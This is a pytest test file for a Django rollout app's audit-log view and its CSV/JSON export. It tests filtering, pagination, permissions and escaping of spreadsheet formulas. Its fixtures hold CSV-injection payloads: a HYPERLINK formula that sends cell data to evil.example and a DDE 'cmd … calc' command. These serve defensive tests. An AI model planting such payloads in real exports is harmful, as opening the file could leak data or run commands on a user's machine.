import csv
import io
import json
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from rollout.models import AuditEntry
from rollout.services import audit
from tests.conftest import client_for, make_environment

pytestmark = pytest.mark.django_db


@pytest.fixture
def trail(edge, release_manager, devops):
    production = make_environment(edge)
    preview = make_environment(edge, name="preview")
    for index in range(120):
        audit.record(
            action="config.percent_change",
            actor=release_manager,
            environment=production,
            reason=f"step {index}",
        )
    audit.record(
        action="config.emergency_stop",
        actor=devops,
        environment=production,
        reason="5xx spike on upload",
    )
    audit.record(
        action="config.written", system="kv-writer", environment=preview, detail="version 2"
    )
    return {"production": production, "preview": preview}


def rows(response) -> str:
    return response.content.decode()


def test_the_newest_entries_come_first_50_a_page(trail, viewer):
    page = client_for(viewer).get(reverse("rollout:audit"))
    assert page.status_code == 200
    entries = page.context["entries"]
    assert len(entries) == 50
    assert entries[0].action == "config.written" and entries[1].action == "config.emergency_stop"
    assert page.context["older"] == entries[-1].pk and page.context["newer"] is None


def test_walking_older_then_newer_returns_to_the_same_page(trail, viewer):
    client = client_for(viewer)
    first = client.get(reverse("rollout:audit")).context
    second = client.get(reverse("rollout:audit"), {"before": first["older"]}).context
    assert second["entries"][0].pk == first["entries"][-1].pk - 1
    back = client.get(reverse("rollout:audit"), {"after": second["newer"]}).context
    assert [e.pk for e in back["entries"]] == [e.pk for e in first["entries"]]


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"actor": "dana"}, {"config.emergency_stop"}),
        ({"action": "config.written"}, {"config.written"}),
        (
            {"action": "config"},
            {"config.written", "config.emergency_stop", "config.percent_change"},
        ),
        ({"q": "upload"}, {"config.emergency_stop"}),
        ({"q": "KV-WRITER"}, {"config.written"}),
    ],
)
def test_filters(trail, viewer, params, expected):
    entries = client_for(viewer).get(reverse("rollout:audit"), params).context["entries"]
    assert {entry.action for entry in entries} == expected


def test_the_environment_filter(trail, viewer):
    params = {"environment": str(trail["preview"].public_id)}
    entries = client_for(viewer).get(reverse("rollout:audit"), params).context["entries"]
    assert [entry.action for entry in entries] == ["config.written"]


def test_the_date_range_is_taken_in_local_days(edge, viewer):
    # 23:30 UTC on 12 Nov is already 13 Nov in Berlin; the filter speaks Berlin days.
    moment = datetime(2025, 11, 12, 23, 30, tzinfo=UTC)
    entry = AuditEntry(created_at=moment, actor_label="x", action="config.late")
    entry.prev_hash = audit.GENESIS_HASH
    entry.entry_hash = audit.compute_hash(entry, entry.prev_hash)
    entry.save()
    client = client_for(viewer)
    on_13th = {"since": "2025-11-13", "until": "2025-11-13"}
    assert [e.action for e in client.get(reverse("rollout:audit"), on_13th).context["entries"]] == [
        "config.late"
    ]
    on_12th = {"since": "2025-11-12", "until": "2025-11-12"}
    assert client.get(reverse("rollout:audit"), on_12th).context["entries"] == []


@pytest.mark.parametrize(
    "params, message",
    [
        ({"since": "yesterday"}, "Enter a date as YYYY-MM-DD."),
        ({"until": "2025-13-45"}, "Enter a date as YYYY-MM-DD."),
        ({"since": "2025-11-20", "until": "2025-11-10"}, "after the To date"),
        ({"environment": "not-a-uuid"}, "Unknown environment id."),
        ({"before": "abc"}, "Enter a whole number."),
        ({"before": "-5"}, "greater than or equal to 1"),
        ({"q": "x" * 300}, "at most 200 characters"),
    ],
)
def test_bad_filters_are_explained(trail, viewer, params, message):
    response = client_for(viewer).get(reverse("rollout:audit"), params)
    assert response.status_code == 422
    assert message in rows(response)


def test_pagination_links_keep_the_filters(trail, viewer):
    response = client_for(viewer).get(reverse("rollout:audit"), {"action": "config.percent"})
    assert "?action=config.percent&before=" in rows(response)


def test_htmx_gets_only_the_rows(trail, viewer):
    response = client_for(viewer).get(reverse("rollout:audit"), headers={"HX-Request": "true"})
    assert "<html" not in rows(response) and '<table class="audit reflow">' in rows(response)


def test_people_without_a_role_cannot_read_the_trail(trail, outsider):
    assert client_for(outsider).get(reverse("rollout:audit")).status_code == 403
    export = reverse("rollout:audit_export", args=["csv"])
    assert client_for(outsider).get(export).status_code == 403


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_csv_export_has_the_whole_filtered_set_oldest_first(trail, viewer):
    export = reverse("rollout:audit_export", args=["csv"])
    response = client_for(viewer).get(export, {"actor": "rita"})
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    records = list(csv.DictReader(io.StringIO(_body(response))))
    assert len(records) == 120
    assert records[0]["reason"] == "step 0" and records[-1]["reason"] == "step 119"
    assert records[0]["environment"] == "pix-immo-api / production"
    assert len(records[0]["entry_hash"]) == 64


def test_json_export(trail, viewer):
    export = reverse("rollout:audit_export", args=["json"])
    documents = json.loads(_body(client_for(viewer).get(export, {"q": "spike"})))
    assert [d["action"] for d in documents] == ["config.emergency_stop"]
    assert documents[0]["actor_label"] == "dana"


def test_export_refuses_bad_filters_and_formats(trail, viewer):
    client = client_for(viewer)
    bad = client.get(reverse("rollout:audit_export", args=["csv"]), {"since": "nope"})
    assert bad.status_code == 422 and "Enter a date" in rows(bad)
    assert client.get(reverse("rollout:audit_export", args=["xml"])).status_code == 404


def test_free_text_treats_wildcards_literally(edge, viewer):
    audit.record(action="config.note", system="test", reason="raised to 50% after review")
    audit.record(action="config.note", system="test", reason="raised to 500 after review")
    client = client_for(viewer)
    entries = client.get(reverse("rollout:audit"), {"q": "50%"}).context["entries"]
    assert [entry.reason for entry in entries] == ["raised to 50% after review"]
    assert client.get(reverse("rollout:audit"), {"q": "5_0"}).context["entries"] == []


# --- formulas in the CSV export --------------------------------------------------------------

LEADING = ["=", "+", "-", "@", "\t", "\r"]
# Every exported text column whose value a person (or an outside system) can choose.
PERSON_TEXT = ["actor_label", "environment", "object_id", "reason", "detail", "request_id"]


def _entry_starting_with(edge, index, lead):
    from types import SimpleNamespace

    from rollout.models import Environment, Service

    service = Service.objects.create(name=f"{lead}svc{index}")
    environment = Environment.objects.create(
        service=service,
        name="production",
        cloudflare_account_id="a",
        kv_namespace_id="n",
        qa_url="http://127.0.0.1/api/qa",
    )
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
    return audit.record(
        action="config.note",
        system=f"{lead}bot",
        environment=environment,
        obj=SimpleNamespace(public_id=f"{lead}obj"),
        reason=payload,
        detail=f"{lead}cmd|' /C calc'!A0",
        after={"note": payload},
        request=SimpleNamespace(request_id=f"{lead}req", META={}),
    )


@pytest.mark.parametrize("lead", LEADING, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(edge, viewer, lead):
    entry = _entry_starting_with(edge, 0, lead)
    export = reverse("rollout:audit_export", args=["csv"])
    records = list(csv.DictReader(io.StringIO(_body(client_for(viewer).get(export)), newline="")))
    record = next(item for item in records if item["id"] == str(entry.pk))
    expected = {column: "'" + str(getattr(entry, column, "")) for column in PERSON_TEXT}
    expected["environment"] = "'" + str(entry.environment)
    assert {column: record[column] for column in PERSON_TEXT} == expected
    assert record["after"].startswith("{")  # a JSON object cannot run


@pytest.mark.parametrize("lead", LEADING, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_json_export_keeps_the_same_text_exact(edge, viewer, lead):
    entry = _entry_starting_with(edge, 0, lead)
    export = reverse("rollout:audit_export", args=["json"])
    documents = json.loads(_body(client_for(viewer).get(export)))
    document = next(item for item in documents if item["id"] == entry.pk)
    assert document["reason"] == entry.reason and document["detail"] == entry.detail
    assert document["actor_label"] == f"{lead}bot" and document["after"] == entry.after


def test_a_plain_negative_number_stays_a_number_in_csv(edge, viewer):
    entry = audit.record(
        action="config.note", system="test", reason="-5", detail="-1+2", before=-3, after=-2.5
    )
    export = reverse("rollout:audit_export", args=["csv"])
    records = list(csv.DictReader(io.StringIO(_body(client_for(viewer).get(export)))))
    record = next(item for item in records if item["id"] == str(entry.pk))
    assert (record["reason"], record["before"], record["after"]) == ("-5", "-3", "-2.5")
    assert record["detail"] == "'-1+2"  # a formula, though it starts like a number
